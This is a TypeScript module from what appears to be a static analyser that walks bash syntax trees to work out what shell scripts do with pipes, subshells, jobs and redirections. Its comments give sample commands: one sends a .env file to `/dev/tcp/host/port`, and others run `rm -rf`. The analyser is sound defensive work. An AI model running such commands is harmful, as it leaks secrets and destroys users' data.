import type {
  AndOr,
  CompoundList,
  Coproc,
  Function as FunctionNode,
  Pipeline,
  PipelineNode,
  Redirected,
  Statement,
} from "unbash";
import { unknown } from "../model/arg.js";
import { assertNever } from "../model/assert-never.js";
import type { Call, Stdin } from "../model/call.js";
import { evaluate } from "./arithmetic.js";
import { runCase, runIf } from "./branch.js";
import { apart, noteRedefined, perhaps } from "./chain.js";
import { runCommand } from "./command.js";
import { walkTest } from "./condition.js";
import { closeDescriptors, openDescriptor } from "./descriptor.js";
import { assumeOutcome, negateDirectory, settleDirectory } from "./directory.js";
import { emitBare, finish } from "./emit.js";
import { exportRoutine } from "./exported.js";
import { perhapsWritten } from "./files.js";
import { noteHookFunction } from "./hook.js";
import { runArithmeticFor, runFor, runSelect, runWhile } from "./loop.js";
import { isKeptBack, joinOrigins } from "./origin.js";
import { done, type Outcome, type Place, placeWith, spanOf, unsure, wantedIf } from "./place.js";
import { expandRedirections } from "./redirection.js";
import { adoptFiles, copyState, forkState, type State } from "./state.js";
import { mergeState } from "./state-merge.js";
import { mergeTables, setEntry } from "./table.js";
import { besideTraps, runTraps } from "./trap.js";
import { assign } from "./variable.js";

/** Statements one after the other. What stands after `exit` is walked too, as something that may not run. */
export function runStatements(
  place: Place,
  state: State,
  statements: readonly Statement[],
  after?: (at: number) => void,
): Outcome {
  let output: string | undefined = "";
  let status: Outcome["status"] = "ok";
  let lines: Outcome["lines"];
  let origin: Outcome["origin"];
  let begins: string | undefined;
  let hasEnded = false;
  for (let at = 0; at < statements.length; at++) {
    const statement = statements[at];
    if (place.run.halted || statement === undefined) return unsure;
    settleDirectory(state);
    hasEnded ||= state.ended;
    state.ended = false;
    const here = hasEnded ? perhaps(place) : place;
    const outcome =
      statement.background === true
        ? runJob(here, state, statement.command)
        : runNode(here, state, statement.command);
    after?.(at);
    begins ??= outcome.output === undefined ? (output ?? "") + (outcome.begins ?? "") : undefined;
    output = output === undefined || outcome.output === undefined ? undefined : output + outcome.output;
    status = outcome.status;
    origin = joinOrigins(origin, outcome.origin);
    if (statements.length === 1) lines = outcome.lines;
  }
  if (hasEnded) state.ended = true;
  return { status, output, lines, origin, begins };
}

type Node = PipelineNode | AndOr | FunctionNode["body"];

export function runNode(place: Place, state: State, node: Node): Outcome {
  const before = state.traps.map;
  return besideTraps(before, state, runPlain(place, state, node));
}

function runPlain(place: Place, state: State, node: Node): Outcome {
  switch (node.type) {
    case "Command":
      return runCommand(place, state, node);
    case "Pipeline":
      return runPipeline(place, state, node);
    case "AndOr":
      return runAndOr(place, state, node);
    case "CompoundList":
      return runStatements(place, state, node.commands);
    case "BraceGroup":
      return runStatements(place, state, node.body.commands);
    case "Subshell":
      return runSubshell(place, state, node.body);
    case "If":
      return runIf(place, state, node, runStatements);
    case "For":
      return runFor(place, state, node, runStatements);
    case "ArithmeticFor":
      return runArithmeticFor(place, state, node, runStatements);
    case "Select":
      return runSelect(place, state, node, runStatements);
    case "While":
      return runWhile(place, state, node, runStatements);
    case "Case":
      return runCase(place, state, node, runStatements);
    case "Function":
      return define(place, state, node);
    case "Coproc":
      return runCoproc(place, state, node);
    case "Redirected":
      return runRedirected(place, state, node);
    case "TestCommand":
      walkTest(place, state, node.expression);
      return { status: "maybe", output: "" };
    case "ArithmeticCommand": {
      const value = evaluate(place, state, node.expression);
      return { status: value === undefined ? "maybe" : value === "0" ? "fail" : "ok", output: "" };
    }
    default:
      return assertNever(node);
  }
}

function runJob(place: Place, state: State, node: PipelineNode | AndOr): Outcome {
  const job = forkState(state);
  job.input = { stdin: { kind: "none" } };
  const { output } = runNode(apart(place), job, node);
  runTraps(place, job, true);
  mergeTables(state.files, job.files, (path, a, b) =>
    perhapsWritten(path, "is written in the background", a, b),
  );
  mergeTables(state.folders, job.folders, () => true);
  state.touched ??= job.touched;
  // `rm -rf $(echo notes &)`: it prints where the others do, at some time.
  return output === "" ? done : { ...done, output: undefined };
}

function runPipeline(place: Place, state: State, node: Pipeline): Outcome {
  const { commands } = node;
  const negated = node.prefixes.filter((prefix) => prefix.type === "Negation").length % 2 === 1;
  let outcome: Outcome = done;
  let piped: Stdin | undefined;
  commands.forEach((command, at) => {
    const last = at === commands.length - 1;
    const inShell = commands.length === 1 || (last && keepsLast(place, state));
    const stage = inShell ? state : forkState(state);
    const { input } = stage;
    if (piped !== undefined) stage.input = { stdin: piped };
    if (!last) stage.output = undefined;
    const here = inShell ? place : apart(place);
    outcome = runNode(wantedIf(here, place.wanted || !last), stage, command);
    stage.input = input;
    if (!inShell) {
      runTraps(place, stage, true);
      adoptFiles(state, stage);
    }
    piped =
      outcome.output === undefined
        ? {
            kind: "unknown",
            reason: outcome.origin ?? "comes from a pipe",
            ...(outcome.lines && { lines: outcome.lines }),
            ...(outcome.archive && { archive: outcome.archive }),
          }
        : {
            kind: "text",
            text: outcome.output,
            from: "pipe",
            ...(outcome.origin !== undefined && { origin: outcome.origin }),
          };
  });
  if (!negated) return outcome;
  // `! cd x && …` goes on where the shell is when the cd failed.
  negateDirectory(state);
  return { ...outcome, status: opposite(outcome.status) };
}

/** zsh, and bash with `lastpipe`, run the last part of a pipeline in the shell itself. */
function keepsLast(place: Place, state: State): boolean {
  return place.run.shell === "zsh" || state.options.has("lastpipe");
}

function opposite(status: Outcome["status"]): Outcome["status"] {
  return status === "maybe" ? "maybe" : status === "ok" ? "fail" : "ok";
}

/**
 * Follows two ways through `a && b || c`: the one on which the list has worked so far (`state`), and the one on which it
 * has failed. So `cd x && rm -rf *` is in x, and after `cd x || exit` the shell is in x too.
 */
function runAndOr(place: Place, state: State, node: AndOr): Outcome {
  let failed: State | undefined;
  let worked = true;
  let output: string | undefined = "";
  let origin: Outcome["origin"];
  node.commands.forEach((command, at) => {
    if (place.run.halted) return;
    const operator = at === 0 ? "&&" : node.operators[at - 1];
    const runs = operator === "&&" ? worked : failed !== undefined;
    const isReached = !state.ended && (operator === "&&" ? failed === undefined : !worked);
    const sure = place.certain && isReached;
    const here = isReached ? place : perhaps(place);
    if (!runs || (state.ended && operator === "&&")) {
      // Never reached as far as can be told; its commands are shown all the same.
      const never = placeWith(perhaps(here), { loop: undefined, routine: undefined });
      runNode(never, copyState(state), command);
      return;
    }
    const way = operator === "&&" ? state : (failed ?? state);
    const outcome = runNode(here, way, command);
    origin = joinOrigins(origin, outcome.origin);
    if (!sure || outcome.output === undefined || output === undefined) output = undefined;
    else output += outcome.output;
    const fails = outcome.status === "ok" || way.ended ? undefined : copyState(way);
    if (fails !== undefined) assumeOutcome(fails, false);
    assumeOutcome(way, true);
    if (operator === "&&") {
      if (outcome.status === "fail") worked = false;
      if (failed === undefined) failed = fails;
      else if (fails !== undefined) mergeState(failed, fails);
      return;
    }
    if (outcome.status !== "fail") {
      if (worked) mergeState(state, way);
      else Object.assign(state, copyState(way));
      worked = true;
    }
    failed = fails;
  });
  if (failed === undefined) return { status: "ok", output, origin };
  if (worked) mergeState(state, failed);
  else Object.assign(state, failed);
  return { status: worked ? "maybe" : "fail", output, origin };
}

function runSubshell(place: Place, state: State, body: CompoundList): Outcome {
  const inner = forkState(state);
  const outcome = runStatements(apart(place), inner, body.commands);
  runTraps(place, inner, true);
  adoptFiles(state, inner);
  return outcome;
}

function define(place: Place, state: State, node: FunctionNode): Outcome {
  const name = node.name.value;
  const body = { node: node.body, span: place.span };
  noteRedefined(place, name);
  setEntry(state.routines, name, { bodies: [body], perhaps: false });
  if (state.options.has("allexport")) exportRoutine(place, state, name);
  noteHookFunction(place, state, name, body);
  return done;
}

function runCoproc(place: Place, state: State, node: Coproc): Outcome {
  const inner = forkState(state);
  inner.input = { stdin: { kind: "unknown", reason: "comes from a pipe" } };
  inner.output = undefined;
  const here = wantedIf(apart(place), true);
  const { output, origin = "comes from a coprocess" } = runNode(here, inner, node.body);
  runTraps(place, inner, true);
  adoptFiles(state, inner);
  openDescriptor(state, coprocessOutput, output ?? unknown("coproc", origin));
  const ends = [coprocessOutput, coprocessOutput + 1].map((end, at) => [String(at), String(end)] as const);
  const elements = new Map<string, string>(ends);
  const name = node.name?.value ?? "COPROC";
  assign(place, state, name, { kind: "array", elements, keyed: false });
  return done;
}

/** Bash counts these down from 63, as it does those of `<(…)`; no line says the numbers themselves. */
const coprocessOutput = 160;

function runRedirected(place: Place, state: State, node: Redirected): Outcome {
  const { calls, made, substitutions } = place.run;
  const plumbing = expandRedirections(place, state, node.redirects);
  const mark = calls.length;
  emitBare(place, state, plumbing, spanOf(place, node));
  const bare = calls[mark];
  const { input, output } = state;
  if (plumbing.stdin !== undefined) state.input = { stdin: plumbing.stdin };
  if (plumbing.sink !== undefined) state.output = undefined;
  const wanted = place.wanted || plumbing.sink !== undefined;
  const outcome = runNode(wantedIf(place, wanted), state, node.command);
  state.input = input;
  if (plumbing.sink !== undefined) state.output = output;
  closeDescriptors(state, plumbing.before);
  place.run.substitutions = substitutions;
  // `{ cat .env; date; } > /dev/tcp/host/port`: what went through is known only now.
  if (bare !== undefined && isKeptBack(outcome.origin) && calls[mark] === bare) {
    const through: Call = { ...bare, stdin: { kind: "unknown", reason: outcome.origin } };
    const files = made.get(bare);
    calls[mark] = through;
    if (files !== undefined) made.set(through, files);
  }
  return finish(place, state, plumbing, outcome);
}
